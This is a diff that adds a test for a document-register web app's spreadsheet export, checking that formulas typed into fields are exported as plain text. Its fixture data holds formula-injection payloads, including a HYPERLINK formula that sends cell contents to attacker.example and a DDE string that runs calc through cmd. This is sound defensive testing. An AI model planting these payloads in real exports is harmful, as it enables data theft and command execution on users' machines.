@@ -272,3 +272,22 @@ async def test_other_agencies_and_unrouted_people_get_404(web):
     assert hidden.status_code == 404 and hidden.json()["code"] == "document_not_found"
     anonymous = await web.get(f"/api/v1/registers/{register_id}/print.pdf")
     assert anonymous.status_code == 401
+
+
+async def test_exported_cells_never_run_as_formulas(web):
+    """A sender who types a formula into a field sees it exported as text, in XLSX as in CSV."""
+    with transaction(web.engine) as session:
+        register_document(session, datetime(2025, 4, 1, 1, 0, tzinfo=UTC), code_number="=2+5",
+                          subject='=HYPERLINK("http://attacker.example/?"&A1,"Xem")',
+                          organ_name="@SUM(1+1)*cmd|' /C calc'!A0")
+    await browser_login(web, "vanthu")
+    response = await web.get(f"/registers/{_register_id(web.engine)}/export.xlsx?kind=register"
+                             "&from=2025-04-01&to=2025-04-30")
+    assert response.status_code == 200, response.text
+    sheet = openpyxl.load_workbook(BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=8) for cell in row if isinstance(cell.value, str)]
+    risky = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@"))]
+    # The sender and the số/ký hiệu as typed (openpyxl alone would store the "=" one as a formula).
+    assert sorted(cell.value for cell in risky) == ["=2+5/STC-NS", "@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert all(cell.data_type == "s" for cell in risky)
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
